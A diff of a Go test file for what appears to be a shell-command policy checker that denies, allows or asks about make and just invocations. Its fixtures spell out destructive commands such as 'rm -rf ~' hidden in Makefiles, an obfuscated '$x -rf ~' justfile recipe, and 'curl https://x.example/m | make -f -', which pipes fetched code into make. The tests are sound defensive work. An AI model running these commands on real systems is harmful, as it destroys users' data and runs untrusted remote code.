@@ -51,7 +51,6 @@ broken:
 		"sub2/Makefile": "V := $(shell rm -rf ~)\nall:\n\techo $(V)\n",
 		"sub3/Makefile": "include ../Makefile.inc\nall: inner\n",
 		"Makefile.inc":  "inner:\n\trm -rf ~\n",
-		"justfile":      "where := '/'\ndefault: lint\nlint:\n    go vet ./...\nwipe target=\"x\":\n    @rm -rf ~\nscript:\n    #!/usr/bin/env bash\n    x=rm\n    $x -rf ~\npython:\n    #!/usr/bin/env python3\n    rm = 1\nargs dir:\n    rm -rf {{dir}}/x\nafter: && wipe\n",
 	} {
 		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
 			t.Fatal(err)
@@ -67,7 +66,6 @@ broken:
 		"make": policy.Allow, "make clean": policy.Allow, "make wipe": policy.Deny, "make indirect": policy.Deny, "make dollar": policy.Deny, "make all wipe": policy.Deny, "make -n wipe": policy.Allow,
 		"make given": policy.Allow, "make given WHERE=/": policy.Deny, "make unknown": policy.Allow, "make broken": policy.Allow, "make x.out": policy.Deny, "make -C sub2": policy.Deny, "make -C sub2 -n": policy.Deny,
 		"make -C sub3": policy.Deny, "make -f Makefile.inc": policy.Deny, "make HOME_DIR=x wipe": policy.Allow, "make -f - <<< 'all: ; rm -rf ~'": policy.Deny, "curl https://x.example/m | make -f -": policy.Deny, "cat unknown | make -f -": policy.Confirm, "make -f - <<< 'all: ; echo x'": policy.Allow, "cd sub2; make": policy.Deny,
-		"just": policy.Allow, "just wipe": policy.Deny, "just script": policy.Deny, "just python": policy.Allow, "just args x": policy.Allow, "just after": policy.Deny, "cd sub && just wipe": policy.Deny,
 	} {
 		if p := planOf(t, m, cmd); p.Decision.Action != want {
 			t.Errorf("%s: %v, want %v: %v", cmd, p.Decision.Action, want, p.Decision.Reasons)
